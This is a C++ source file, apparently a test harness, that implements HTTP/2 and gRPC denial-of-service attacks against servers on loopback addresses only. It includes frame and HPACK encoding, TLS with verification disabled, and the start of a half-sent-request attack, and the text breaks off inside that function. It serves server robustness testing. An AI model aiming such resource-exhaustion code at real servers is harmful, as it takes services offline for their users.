#include "tests/support/h2_attacker.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <poll.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <mutex>
#include <thread>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"

namespace ps::testing::h2 {
namespace {

using Clock = std::chrono::steady_clock;

void PutU32(std::string* out, uint32_t v) {
  out->push_back(static_cast<char>(v >> 24));
  out->push_back(static_cast<char>(v >> 16));
  out->push_back(static_cast<char>(v >> 8));
  out->push_back(static_cast<char>(v));
}

uint32_t GetU32(std::string_view s, size_t at) {
  return uint32_t(uint8_t(s[at])) << 24 | uint32_t(uint8_t(s[at + 1])) << 16 |
         uint32_t(uint8_t(s[at + 2])) << 8 | uint32_t(uint8_t(s[at + 3]));
}

void IgnoreSigpipeOnce() {
  static std::once_flag once;
  std::call_once(once, [] {
    struct sigaction old {};
    if (::sigaction(SIGPIPE, nullptr, &old) == 0 && old.sa_handler == SIG_DFL) {
      ::signal(SIGPIPE, SIG_IGN);
    }
  });
}

std::string Errno(const char* what) { return absl::StrCat(what, ": ", std::strerror(errno)); }

std::string OpensslError() {
  const unsigned long e = ERR_get_error();
  if (e == 0) return "no OpenSSL error queued";
  char text[256];
  ERR_error_string_n(e, text, sizeof(text));
  ERR_clear_error();
  return text;
}

// The address of a loopback target; fails for any other.
absl::StatusOr<sockaddr_storage> LoopbackAddress(const Target& t, socklen_t* len) {
  sockaddr_storage ss{};
  std::string host = t.host == "localhost" ? "127.0.0.1" : t.host;
  auto* v4 = reinterpret_cast<sockaddr_in*>(&ss);
  auto* v6 = reinterpret_cast<sockaddr_in6*>(&ss);
  if (::inet_pton(AF_INET, host.c_str(), &v4->sin_addr) == 1) {
    if ((ntohl(v4->sin_addr.s_addr) >> 24) != 127) {
      return absl::InvalidArgumentError(absl::StrCat(t.host, " is not a loopback address"));
    }
    v4->sin_family = AF_INET;
    v4->sin_port = htons(t.port);
    *len = sizeof(sockaddr_in);
    return ss;
  }
  if (::inet_pton(AF_INET6, host.c_str(), &v6->sin6_addr) == 1) {
    if (!IN6_IS_ADDR_LOOPBACK(&v6->sin6_addr)) {
      return absl::InvalidArgumentError(absl::StrCat(t.host, " is not a loopback address"));
    }
    v6->sin6_family = AF_INET6;
    v6->sin6_port = htons(t.port);
    *len = sizeof(sockaddr_in6);
    return ss;
  }
  return absl::InvalidArgumentError(
      absl::StrCat("'", t.host, "': give a loopback address (127.0.0.0/8 or ::1)"));
}

// A non-blocking socket whose connect to `t` was started (EINPROGRESS or done).
absl::StatusOr<int> StartConnect(const Target& t) {
  socklen_t len = 0;
  absl::StatusOr<sockaddr_storage> addr = LoopbackAddress(t, &len);
  if (!addr.ok()) return addr.status();
  const int fd = ::socket(addr->ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return absl::ResourceExhaustedError(Errno("socket"));
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&*addr), len) != 0 && errno != EINPROGRESS) {
    const std::string e = Errno("connect");
    ::close(fd);
    return absl::UnavailableError(e);
  }
  return fd;
}

// Whether a started connect completed within `timeout`.
absl::Status FinishConnect(int fd, milliseconds timeout) {
  pollfd p{fd, POLLOUT, 0};
  const int n = ::poll(&p, 1, static_cast<int>(timeout.count()));
  if (n == 0) return absl::DeadlineExceededError("connect timed out");
  if (n < 0) return absl::UnavailableError(Errno("poll"));
  int err = 0;
  socklen_t len = sizeof(err);
  ::getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
  if (err != 0) return absl::UnavailableError(absl::StrCat("connect: ", std::strerror(err)));
  return absl::OkStatus();
}

absl::StatusOr<int> ConnectTcp(const Target& t, milliseconds timeout) {
  absl::StatusOr<int> fd = StartConnect(t);
  if (!fd.ok()) return fd;
  if (absl::Status s = FinishConnect(*fd, timeout); !s.ok()) {
    ::close(*fd);
    return s;
  }
  const int one = 1;
  ::setsockopt(*fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  return fd;
}

// A client context: TLS 1.2 or later, ALPN h2, no verification of the server, the
// target's client certificate if it names one.
absl::StatusOr<SSL_CTX*> ClientContext(const Target& t) {
  SSL_CTX* ctx = SSL_CTX_new(TLS_client_method());
  if (ctx == nullptr) return absl::InternalError(OpensslError());
  SSL_CTX_set_min_proto_version(ctx, TLS1_2_VERSION);
  SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, nullptr);
  static const unsigned char kAlpn[] = {2, 'h', '2'};
  SSL_CTX_set_alpn_protos(ctx, kAlpn, sizeof(kAlpn));
  SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
  if (!t.tls_cert.empty() &&
      (SSL_CTX_use_certificate_chain_file(ctx, t.tls_cert.c_str()) != 1 ||
       SSL_CTX_use_PrivateKey_file(ctx, t.tls_key.c_str(), SSL_FILETYPE_PEM) != 1)) {
    const std::string e = OpensslError();
    SSL_CTX_free(ctx);
    return absl::InvalidArgumentError(absl::StrCat("client certificate: ", e));
  }
  return ctx;
}

// Drives a non-blocking TLS handshake on `ssl` until done, failed or `timeout`.
absl::Status DriveHandshake(SSL* ssl, int fd, milliseconds timeout) {
  const auto until = Clock::now() + timeout;
  while (true) {
    ERR_clear_error();
    const int r = SSL_connect(ssl);
    if (r == 1) return absl::OkStatus();
    const int e = SSL_get_error(ssl, r);
    if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE) {
      return absl::UnavailableError(absl::StrCat("TLS handshake: error ", e, ": ", OpensslError()));
    }
    const auto left = std::chrono::duration_cast<milliseconds>(until - Clock::now());
    if (left.count() <= 0) return absl::DeadlineExceededError("TLS handshake timed out");
    pollfd p{fd, static_cast<short>(e == SSL_ERROR_WANT_READ ? POLLIN : POLLOUT), 0};
    ::poll(&p, 1, static_cast<int>(left.count()));
  }
}

// Measures an attack's time and asks whether it is over.
class Run {
 public:
  explicit Run(const Control& c) : control_(c), start_(Clock::now()) {}
  bool Over() const {
    return (control_.stop && control_.stop()) || Clock::now() - start_ >= control_.duration;
  }
  double Seconds() const { return std::chrono::duration<double>(Clock::now() - start_).count(); }
  // Sleeps while `done` events have run ahead of `per_second` (0: never).
  void Pace(uint64_t done, double per_second) const {
    if (per_second <= 0) return;
    while (!Over() && double(done) > Seconds() * per_second) {
      std::this_thread::sleep_for(milliseconds(2));
    }
  }
  // Sleeps up to `d`, waking early when the attack is over.
  void Hold(milliseconds d) const {
    const auto until = Clock::now() + d;
    while (!Over() && Clock::now() < until) std::this_thread::sleep_for(milliseconds(10));
  }

 private:
  const Control& control_;
  const Clock::time_point start_;
};

// A connection for an attack, counted on `r`; nullptr, counted as a failure, after a
// pause of 50 ms (so that a loop of reconnects does not spin on a refusing server).
std::unique_ptr<Connection> Dial(Report& r, const Run& run, const Target& target,
                                 bool read_while_writing = true) {
  Connection::Options o;
  o.target = target;
  o.timeout = milliseconds(1000);
  o.read_while_writing = read_while_writing;
  absl::StatusOr<std::unique_ptr<Connection>> c = Connection::Open(std::move(o));
  if (!c.ok()) {
    ++r.connect_failures;
    r.Note(std::string(c.status().message()));
    run.Hold(milliseconds(50));
    return nullptr;
  }
  ++r.connections;
  return *std::move(c);
}

// Ends a connection's part in an attack: its observations go to `r`.
void Retire(Report& r, std::unique_ptr<Connection>& c) {
  if (c == nullptr) return;
  r.Absorb(c->observed());
  r.bytes += c->bytes_written();
  r.frames += c->frames_written();
  if (c->observed().closed) {
    ++r.connections_closed;
    r.Note(absl::StrCat("server closed a connection: ", c->observed().close_reason));
  }
  c.reset();
}

// Connections one after another, a new one when the server closes the last (or
// `use` returns), up to `max_connections` while `more()` and the attack is not over;
// ten failed connects in a row end it.
void Serially(Report& r, const Run& run, const Target& target, uint32_t max_connections,
              bool read_while_writing, const std::function<bool()>& more,
              const std::function<void(Connection&)>& use) {
  uint32_t failures_in_a_row = 0;
  for (uint32_t n = 0; n < max_connections && more() && !run.Over(); ++n) {
    std::unique_ptr<Connection> c = Dial(r, run, target, read_while_writing);
    if (c == nullptr) {
      if (++failures_in_a_row >= 10) break;
      continue;
    }
    failures_in_a_row = 0;
    use(*c);
    Retire(r, c);
  }
}

// Keeps `conns` open, answering SETTINGS and PINGs, until the attack is over or the
// server closed them all; then retires them.
void HoldAndRetire(Report& r, const Run& run, std::vector<std::unique_ptr<Connection>>& conns) {
  bool any = true;
  while (any && !run.Over()) {
    any = false;
    for (auto& c : conns) {
      if (c->open()) {
        any = true;
        (void)c->Poll(milliseconds(0));
      }
    }
    std::this_thread::sleep_for(milliseconds(20));
  }
  for (auto& c : conns) Retire(r, c);
}

const std::string& Zeros() {
  static const std::string zeros(1u << 20, '\0');
  return zeros;
}

}  // namespace

// ---- Encoding ----------------------------------------------------------------------------

std::string ErrorCodeName(uint32_t code) {
  static constexpr std::array<const char*, 14> kNames = {
      "NO_ERROR",       "PROTOCOL_ERROR",  "INTERNAL_ERROR",     "FLOW_CONTROL_ERROR",
      "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",   "REFUSED_STREAM",
      "CANCEL",         "COMPRESSION_ERROR", "CONNECT_ERROR",    "ENHANCE_YOUR_CALM",
      "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"};
  if (code < kNames.size()) return absl::StrCat(kNames[code], " (", code, ")");
  return absl::StrCat("code ", code);
}

std::string EncodeFrame(FrameType type, uint8_t flags, uint32_t stream, std::string_view payload) {
  std::string out;
  out.reserve(kFrameHeaderBytes + payload.size());
  const auto length = static_cast<uint32_t>(std::min<size_t>(payload.size(), 0xffffff));
  out.push_back(static_cast<char>(length >> 16));
  out.push_back(static_cast<char>(length >> 8));
  out.push_back(static_cast<char>(length));
  out.push_back(static_cast<char>(type));
  out.push_back(static_cast<char>(flags));
  PutU32(&out, stream & kMaxStreamId);
  out.append(payload.substr(0, length));
  return out;
}

void AppendHpackInteger(std::string* out, uint8_t first, int prefix_bits, uint64_t value) {
  const uint64_t max_prefix = (uint64_t{1} << prefix_bits) - 1;
  if (value < max_prefix) {
    out->push_back(static_cast<char>(first | value));
    return;
  }
  out->push_back(static_cast<char>(first | max_prefix));
  value -= max_prefix;
  while (value >= 128) {
    out->push_back(static_cast<char>(0x80 | (value & 0x7f)));
    value >>= 7;
  }
  out->push_back(static_cast<char>(value));
}

namespace {
void AppendHpackString(std::string* out, std::string_view s) {
  AppendHpackInteger(out, 0x00, 7, s.size());  // H = 0: no Huffman
  out->append(s);
}
}  // namespace

std::string HpackLiteral(std::string_view name, std::string_view value, Indexing indexing) {
  std::string out;
  out.reserve(name.size() + value.size() + 12);
  switch (indexing) {
    case Indexing::kWithout:
      out.push_back('\x00');
      break;
    case Indexing::kIncremental:
      out.push_back('\x40');
      break;
    case Indexing::kNever:
      out.push_back('\x10');
      break;
  }
  AppendHpackString(&out, name);
  AppendHpackString(&out, value);
  return out;
}

std::string HpackIndexed(uint32_t index) {
  std::string out;
  AppendHpackInteger(&out, 0x80, 7, index);
  return out;
}

std::string HpackTableSizeUpdate(uint32_t size) {
  std::string out;
  AppendHpackInteger(&out, 0x20, 5, size);
  return out;
}

std::string RequestHeaderBlock(const Request& r) {
  std::string out = HpackLiteral(":method", "POST");
  out += HpackLiteral(":scheme", r.scheme);
  out += HpackLiteral(":path", r.path);
  out += HpackLiteral(":authority", r.authority);
  out += HpackLiteral("content-type", "application/grpc");
  out += HpackLiteral("te", "trailers");
  if (!r.authorization.empty()) out += HpackLiteral("authorization", r.authorization);
  for (const auto& [name, value] : r.extra) out += HpackLiteral(name, value);
  return out;
}

std::string GrpcPrefix(uint32_t length) {
  std::string out(1, '\0');
  PutU32(&out, length);
  return out;
}

std::string GrpcMessage(std::string_view body) {
  return GrpcPrefix(static_cast<uint32_t>(body.size())) + std::string(body);
}

std::string HealthCheckRequestBytes(std::string_view service) {
  if (service.empty()) return "";
  std::string out(1, '\x0a');  // field 1, wire type 2
  uint64_t n = service.size();
  while (n >= 128) {
    out.push_back(static_cast<char>(0x80 | (n & 0x7f)));
    n >>= 7;
  }
  out.push_back(static_cast<char>(n));
  out.append(service);
  return out;
}

absl::Status CheckLoopback(const Target& target) {
  socklen_t len = 0;
  return LoopbackAddress(target, &len).status();
}

// ---- Connection ----------------------------------------------------------------------------

absl::StatusOr<std::unique_ptr<Connection>> Connection::Open(Options options) {
  IgnoreSigpipeOnce();
  std::unique_ptr<Connection> c(new Connection(std::move(options)));
  if (absl::Status s = c->Connect(); !s.ok()) return s;
  if (c->options_.target.tls) {
    if (absl::Status s = c->TlsHandshake(); !s.ok()) return s;
  }
  if (c->options_.handshake) {
    if (absl::Status s = c->ClientHandshake(); !s.ok()) return s;
  }
  return c;
}

Connection::~Connection() {
  if (ssl_ != nullptr) SSL_free(ssl_);
  if (ssl_ctx_ != nullptr) SSL_CTX_free(ssl_ctx_);
  if (fd_ >= 0) ::close(fd_);
}

absl::Status Connection::Connect() {
  absl::StatusOr<int> fd = ConnectTcp(options_.target, options_.timeout);
  if (!fd.ok()) return fd.status();
  fd_ = *fd;
  return absl::OkStatus();
}

absl::Status Connection::TlsHandshake() {
  absl::StatusOr<SSL_CTX*> ctx = ClientContext(options_.target);
  if (!ctx.ok()) return ctx.status();
  ssl_ctx_ = *ctx;
  ssl_ = SSL_new(ssl_ctx_);
  if (ssl_ == nullptr) return absl::InternalError(OpensslError());
  SSL_set_fd(ssl_, fd_);
  return DriveHandshake(ssl_, fd_, options_.timeout);
}

absl::Status Connection::ClientHandshake() {
  std::string first(kClientPreface);
  std::string settings;
  for (const auto& [id, value] : options_.settings) {
    settings.push_back(static_cast<char>(id >> 8));
    settings.push_back(static_cast<char>(id));
    PutU32(&settings, value);
  }
  first += EncodeFrame(FrameType::kSettings, 0, 0, settings);
  if (absl::Status s = Write(first); !s.ok()) return s;
  const auto until = Clock::now() + options_.timeout;
  while (!peer_.seen) {
    const auto left = std::chrono::duration_cast<milliseconds>(until - Clock::now());
    if (left.count() <= 0) return absl::DeadlineExceededError("no SETTINGS from the server");
    if (absl::Status s = Poll(std::min(left, milliseconds(50))); !s.ok()) return s;
  }
  return absl::OkStatus();
}

void Connection::Close(std::string reason) {
  if (observed_.closed) return;
  observed_.closed = true;
  observed_.close_reason = std::move(reason);
}

bool Connection::WaitIo(bool want_write, milliseconds wait) {
  if (ssl_ != nullptr && SSL_pending(ssl_) > 0) return true;
  pollfd p{fd_, static_cast<short>(POLLIN | (want_write || tls_wants_write_ ? POLLOUT : 0)), 0};
  return ::poll(&p, 1, static_cast<int>(std::max<int64_t>(wait.count(), 0))) > 0;
}

absl::StatusOr<bool> Connection::ReadSome() {
  if (observed_.closed) return absl::UnavailableError(observed_.close_reason);
  char buf[65536];
  ssize_t n;
  if (ssl_ != nullptr) {
    ERR_clear_error();
    n = SSL_read(ssl_, buf, sizeof(buf));
    if (n <= 0) {
      const int e = SSL_get_error(ssl_, static_cast<int>(n));
      if (e == SSL_ERROR_WANT_READ) return false;
      if (e == SSL_ERROR_WANT_WRITE) {
        tls_wants_write_ = true;
        return false;
      }
      Close(e == SSL_ERROR_ZERO_RETURN ? "TLS closed by the server"
                                       : absl::StrCat("TLS read error ", e, ": ", OpensslError()));
      return absl::UnavailableError(observed_.close_reason);
    }
  } else {
    n = ::recv(fd_, buf, sizeof(buf), MSG_DONTWAIT);
    if (n == 0) {
      Close("EOF from the server");
      return absl::UnavailableError(observed_.close_reason);
    }
    if (n < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) return false;
      Close(Errno("recv"));
      return absl::UnavailableError(observed_.close_reason);
    }
  }
  tls_wants_write_ = false;
  observed_.bytes += static_cast<uint64_t>(n);
  in_.append(buf, static_cast<size_t>(n));
  HandleFrames();
  return true;
}

absl::StatusOr<size_t> Connection::WriteSome() {
  if (observed_.closed) return absl::UnavailableError(observed_.close_reason);
  const size_t want = std::min<size_t>(out_.size() - out_at_, 1u << 20);
  if (want == 0) return 0;
  ssize_t n;
  if (ssl_ != nullptr) {
    ERR_clear_error();
    n = SSL_write(ssl_, out_.data() + out_at_, static_cast<int>(want));
    if (n <= 0) {
      const int e = SSL_get_error(ssl_, static_cast<int>(n));
      if (e == SSL_ERROR_WANT_WRITE) return 0;
      if (e == SSL_ERROR_WANT_READ) return 0;
      Close(absl::StrCat("TLS write error ", e, ": ", OpensslError()));
      return absl::UnavailableError(observed_.close_reason);
    }
  } else {
    n = ::send(fd_, out_.data() + out_at_, want, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (n < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) return 0;
      Close(Errno("send"));
      return absl::UnavailableError(observed_.close_reason);
    }
  }
  out_at_ += static_cast<size_t>(n);
  bytes_written_ += static_cast<uint64_t>(n);
  if (out_at_ == out_.size()) {
    out_.clear();
    out_at_ = 0;
  } else if (out_at_ > (4u << 20)) {
    out_.erase(0, out_at_);
    out_at_ = 0;
  }
  return static_cast<size_t>(n);
}

absl::Status Connection::Flush(milliseconds timeout) {
  auto last_progress = Clock::now();
  while (queued() > 0) {
    absl::StatusOr<size_t> wrote = WriteSome();
    if (!wrote.ok()) return wrote.status();
    bool progress = *wrote > 0;
    if (options_.read_while_writing) {
      absl::StatusOr<bool> read = ReadSome();
      if (!read.ok()) return read.status();
      progress |= *read;
    }
    if (progress) {
      last_progress = Clock::now();
      continue;
    }
    const auto left = timeout - std::chrono::duration_cast<milliseconds>(Clock::now() - last_progress);
    if (left.count() <= 0) {
      return absl::DeadlineExceededError(
          absl::StrCat("the server took nothing for ", timeout.count(), " ms (", queued(),
                       " bytes queued)"));
    }
    if (options_.read_while_writing) {
      WaitIo(/*want_write=*/true, std::min(left, milliseconds(50)));
    } else {
      pollfd p{fd_, POLLOUT, 0};
      ::poll(&p, 1, static_cast<int>(std::min(left, milliseconds(50)).count()));
    }
  }
  return absl::OkStatus();
}

absl::Status Connection::Write(std::string_view bytes) {
  if (observed_.closed) return absl::UnavailableError(observed_.close_reason);
  if (queued() + bytes.size() > options_.max_queued) {
    return absl::ResourceExhaustedError(
        absl::StrCat(queued(), " bytes already queued: the server is not reading"));
  }
  out_.append(bytes);
  return Flush(options_.timeout);
}

absl::Status Connection::WriteFrame(FrameType type, uint8_t flags, uint32_t stream,
                                    std::string_view payload) {
  ++frames_written_;
  return Write(EncodeFrame(type, flags, stream, payload));
}

absl::Status Connection::Settings(const std::vector<std::pair<uint16_t, uint32_t>>& settings) {
  std::string payload;
  for (const auto& [id, value] : settings) {
    payload.push_back(static_cast<char>(id >> 8));
    payload.push_back(static_cast<char>(id));
    PutU32(&payload, value);
  }
  return WriteFrame(FrameType::kSettings, 0, 0, payload);
}

absl::Status Connection::Ping(uint64_t data, bool ack) {
  std::string payload;
  PutU32(&payload, static_cast<uint32_t>(data >> 32));
  PutU32(&payload, static_cast<uint32_t>(data));
  return WriteFrame(FrameType::kPing, ack ? kAck : 0, 0, payload);
}

absl::Status Connection::RstStream(uint32_t stream, ErrorCode code) {
  std::string payload;
  PutU32(&payload, static_cast<uint32_t>(code));
  return WriteFrame(FrameType::kRstStream, 0, stream, payload);
}

absl::Status Connection::WindowUpdate(uint32_t stream, uint32_t increment) {
  std::string payload;
  PutU32(&payload, increment & kMaxStreamId);
  return WriteFrame(FrameType::kWindowUpdate, 0, stream, payload);
}

absl::Status Connection::Goaway(uint32_t last_stream, ErrorCode code, std::string_view debug) {
  std::string payload;
  PutU32(&payload, last_stream & kMaxStreamId);
  PutU32(&payload, static_cast<uint32_t>(code));
  payload.append(debug);
  return WriteFrame(FrameType::kGoaway, 0, 0, payload);
}

absl::Status Connection::Headers(uint32_t stream, std::string_view block, bool end_stream,
                                 bool end_headers) {
  const size_t max = peer_.max_frame_size;
  std::string frames;
  const std::string_view first = block.substr(0, max);
  const bool whole = first.size() == block.size();
  frames += EncodeFrame(FrameType::kHeaders,
                        static_cast<uint8_t>((end_stream ? kEndStream : 0) |
                                             (whole && end_headers ? kEndHeaders : 0)),
                        stream, first);
  for (size_t at = first.size(); at < block.size(); at += max) {
    const std::string_view part = block.substr(at, max);
    const bool last = at + part.size() == block.size();
    frames += EncodeFrame(FrameType::kContinuation, last && end_headers ? kEndHeaders : 0, stream,
                          part);
    ++frames_written_;
  }
  ++frames_written_;
  return Write(frames);
}

absl::Status Connection::Continuation(uint32_t stream, std::string_view block, bool end_headers) {
  return WriteFrame(FrameType::kContinuation, end_headers ? kEndHeaders : 0, stream, block);
}

Connection::Stream& Connection::StreamState(uint32_t stream) {
  auto [it, inserted] = streams_.try_emplace(stream);
  if (inserted) it->second.window = peer_.initial_window_size;
  return it->second;
}

int64_t Connection::stream_window(uint32_t stream) const {
  auto it = streams_.find(stream);
  return it == streams_.end() ? int64_t{peer_.initial_window_size} : it->second.window;
}

bool Connection::stream_reset(uint32_t stream) const {
  auto it = streams_.find(stream);
  return it != streams_.end() && it->second.reset;
}

absl::StatusOr<size_t> Connection::DataNow(uint32_t stream, std::string_view bytes,
                                           bool end_stream) {
  Stream& s = StreamState(stream);
  if (s.reset) return absl::AbortedError(absl::StrCat("stream ", stream, " was reset"));
  std::string frames;
  size_t sent = 0;
  while (sent < bytes.size()) {
    const int64_t allowed = std::min<int64_t>(
        {connection_window_, s.window, int64_t{peer_.max_frame_size},
         static_cast<int64_t>(bytes.size() - sent)});
    if (allowed <= 0) break;
    const auto n = static_cast<size_t>(allowed);
    const bool last = sent + n == bytes.size();
    frames += EncodeFrame(FrameType::kData, last && end_stream ? kEndStream : 0, stream,
                          bytes.substr(sent, n));
    connection_window_ -= allowed;
    s.window -= allowed;
    sent += n;
    ++frames_written_;
  }
  if (bytes.empty() && end_stream) {
    frames += EncodeFrame(FrameType::kData, kEndStream, stream, "");
    ++frames_written_;
  }
  if (!frames.empty()) {
    if (absl::Status st = Write(frames); !st.ok()) return st;
  }
  return sent;
}

absl::StatusOr<size_t> Connection::Data(uint32_t stream, std::string_view bytes, bool end_stream,
                                        milliseconds wait) {
  const auto until = Clock::now() + wait;
  size_t sent = 0;
  while (true) {
    absl::StatusOr<size_t> n = DataNow(stream, bytes.substr(sent), end_stream);
    if (!n.ok()) return n;
    sent += *n;
    if (sent == bytes.size()) return sent;
    const auto left = std::chrono::duration_cast<milliseconds>(until - Clock::now());
    if (left.count() <= 0) return sent;
    if (absl::Status s = Poll(std::min(left, milliseconds(50))); !s.ok()) return s;
  }
}

absl::Status Connection::Poll(milliseconds wait) {
  const auto until = Clock::now() + wait;
  while (true) {
    for (int i = 0; i < 64; ++i) {  // at most 4 MiB before the writes get a turn
      absl::StatusOr<bool> read = ReadSome();
      if (!read.ok()) return read.status();
      if (!*read) break;
    }
    if (queued() > 0) {
      absl::StatusOr<size_t> wrote = WriteSome();
      if (!wrote.ok()) return wrote.status();
    }
    const auto left = std::chrono::duration_cast<milliseconds>(until - Clock::now());
    if (left.count() <= 0) return absl::OkStatus();
    WaitIo(queued() > 0, std::min(left, milliseconds(50)));
  }
}

uint32_t Connection::NextStream() {
  if (next_stream_ > kMaxStreamId) return 0;
  const uint32_t id = next_stream_;
  next_stream_ += 2;
  return id;
}

void Connection::HandleFrames() {
  while (in_.size() - in_at_ >= kFrameHeaderBytes) {
    const std::string_view head(in_.data() + in_at_, kFrameHeaderBytes);
    const uint32_t length =
        uint32_t(uint8_t(head[0])) << 16 | uint32_t(uint8_t(head[1])) << 8 | uint8_t(head[2]);
    if (length > options_.max_read_frame) {
      Close(absl::StrCat("the server sent a frame of ", length, " bytes"));
      return;
    }
    if (in_.size() - in_at_ < kFrameHeaderBytes + length) break;
    const auto type = static_cast<FrameType>(head[3]);
    const auto flags = static_cast<uint8_t>(head[4]);
    const uint32_t stream = GetU32(head, 5) & kMaxStreamId;
    Handle(type, flags, stream,
           std::string_view(in_.data() + in_at_ + kFrameHeaderBytes, length));
    in_at_ += kFrameHeaderBytes + length;
  }
  if (in_at_ == in_.size()) {
    in_.clear();
    in_at_ = 0;
  } else if (in_at_ > (1u << 20)) {
    in_.erase(0, in_at_);
    in_at_ = 0;
  }
}

void Connection::Handle(FrameType type, uint8_t flags, uint32_t stream, std::string_view payload) {
  ++observed_.frames;
  if (static_cast<size_t>(type) < kFrameTypes) ++observed_.by_type[static_cast<size_t>(type)];
  switch (type) {
    case FrameType::kSettings:
      if (flags & kAck) {
        ++observed_.settings_acks;
        break;
      }
      for (size_t at = 0; at + 6 <= payload.size(); at += 6) {
        const uint16_t id = static_cast<uint16_t>(uint8_t(payload[at]) << 8 | uint8_t(payload[at + 1]));
        const uint32_t value = GetU32(payload, at + 2);
        switch (id) {
          case kHeaderTableSize:
            peer_.header_table_size = value;
            break;
          case kMaxConcurrentStreams:
            peer_.max_concurrent_streams = value;
            break;
          case kInitialWindowSize: {
            const int64_t delta = int64_t{value} - int64_t{peer_.initial_window_size};
            for (auto& [id_, s] : streams_) s.window += delta;
            peer_.initial_window_size = value;
            break;
          }
          case kMaxFrameSize:
            peer_.max_frame_size = std::clamp<uint32_t>(value, kDefaultMaxFrameSize, 0xffffff);
            break;
          case kMaxHeaderListSize:
            peer_.max_header_list_size = value;
            break;
          default:
            break;
        }
      }
      peer_.seen = true;
      if (options_.auto_ack) out_ += EncodeFrame(FrameType::kSettings, kAck, 0, "");
      break;
    case FrameType::kPing:
      if (flags & kAck) {
        ++observed_.ping_acks;
      } else if (options_.auto_ack) {
        out_ += EncodeFrame(FrameType::kPing, kAck, 0, payload);
      }
      break;
    case FrameType::kGoaway:
      if (payload.size() >= 8) {
        observed_.goaway_last_stream = GetU32(payload, 0) & kMaxStreamId;
        observed_.goaway_code = GetU32(payload, 4);
        observed_.goaway_debug = std::string(payload.substr(8, 256));
      }
      break;
    case FrameType::kRstStream:
      if (payload.size() >= 4) {
        ++observed_.rst_codes[GetU32(payload, 0)];
        if (auto it = streams_.find(stream); it != streams_.end()) it->second.reset = true;
      }
      break;
    case FrameType::kWindowUpdate:
      if (payload.size() >= 4) {
        const uint32_t increment = GetU32(payload, 0) & kMaxStreamId;
        if (stream == 0) {
          connection_window_ += increment;
        } else if (auto it = streams_.find(stream); it != streams_.end()) {
          it->second.window += increment;
        }
      }
      break;
    case FrameType::kHeaders:
    case FrameType::kData:
      if (flags & kEndStream) {
        ++observed_.streams_ended;
        if (auto it = streams_.find(stream); it != streams_.end()) it->second.ended = true;
      }
      break;
    default:
      break;
  }
}

// ---- Report ----------------------------------------------------------------------------------

void Report::Note(std::string note) {
  if (notes.size() < 8 && std::find(notes.begin(), notes.end(), note) == notes.end()) {
    notes.push_back(std::move(note));
  }
}

void Report::Absorb(const Observed& o) {
  ping_acks += o.ping_acks;
  settings_acks += o.settings_acks;
  answered += o.streams_ended;
  for (const auto& [code, n] : o.rst_codes) rst_codes[code] += n;
  if (o.goaway_code.has_value()) {
    ++goaway_codes[*o.goaway_code];
    Note(absl::StrCat("GOAWAY ", ErrorCodeName(*o.goaway_code),
                      o.goaway_debug.empty() ? "" : absl::StrCat(" \"", o.goaway_debug, "\"")));
  }
}

void Report::Add(const Report& o, std::string_view label) {
  connections += o.connections;
  connect_failures += o.connect_failures;
  connections_closed += o.connections_closed;
  streams += o.streams;
  frames += o.frames;
  bytes += o.bytes;
  data_bytes += o.data_bytes;
  answered += o.answered;
  ping_acks += o.ping_acks;
  settings_acks += o.settings_acks;
  for (const auto& [code, n] : o.rst_codes) rst_codes[code] += n;
  for (const auto& [code, n] : o.goaway_codes) goaway_codes[code] += n;
  for (const std::string& n : o.notes) Note(label.empty() ? n : absl::StrCat(std::string(label), ": ", n));
  seconds += o.seconds;
}

std::string Report::Summary() const {
  std::vector<std::string> parts = {
      absl::StrCat("connections ", connections),
      absl::StrCat("failed connects ", connect_failures),
      absl::StrCat("closed by the server ", connections_closed),
      absl::StrCat("streams ", streams),
      absl::StrCat("frames ", frames),
      absl::StrCat("bytes ", bytes),
      absl::StrCat("data bytes ", data_bytes),
      absl::StrCat("answered ", answered),
      absl::StrCat("PING ACKs ", ping_acks),
      absl::StrCat("SETTINGS ACKs ", settings_acks),
      absl::StrCat("seconds ", seconds)};
  for (const auto& [code, n] : rst_codes) {
    parts.push_back(absl::StrCat("RST_STREAM ", ErrorCodeName(code), " x", n));
  }
  for (const auto& [code, n] : goaway_codes) {
    parts.push_back(absl::StrCat("GOAWAY ", ErrorCodeName(code), " x", n));
  }
  std::string out = absl::StrJoin(parts, ", ");
  if (!notes.empty()) absl::StrAppend(&out, "; notes: ", absl::StrJoin(notes, " | "));
  return out;
}

uint64_t RaiseOpenFileLimit() {
  rlimit l{};
  if (::getrlimit(RLIMIT_NOFILE, &l) != 0) return 0;
  if (l.rlim_cur < l.rlim_max) {
    l.rlim_cur = l.rlim_max;
    ::setrlimit(RLIMIT_NOFILE, &l);
    ::getrlimit(RLIMIT_NOFILE, &l);
  }
  return l.rlim_cur;
}

// ---- Attacks -----------------------------------------------------------------------------------

Report HalfSentRequests(const HalfSentOptions& o) {
  Report r;
  const Run run(o.control);
  struct Half {
    Connection* c;
    uint32_t id;
    uint64_t left;  // body bytes still to send (all but the last)
  };
  std::vector<std::unique_ptr<Connection>> conns;
  std::vector<Half> streams;
  const std::string block = RequestHeaderBlock(o.request);
  const std::string prefix = GrpcPrefix(o.message_bytes);
  for (uint32_t i = 0; i < o.connections && !run.Over(); ++i) {
    std::unique_ptr<Connection> c = Dial(r, run, o.target);
    if (c == nullptr) continue;
    // Within the server's SETTINGS_MAX_CONCURRENT_STREAMS: a client that opens more has
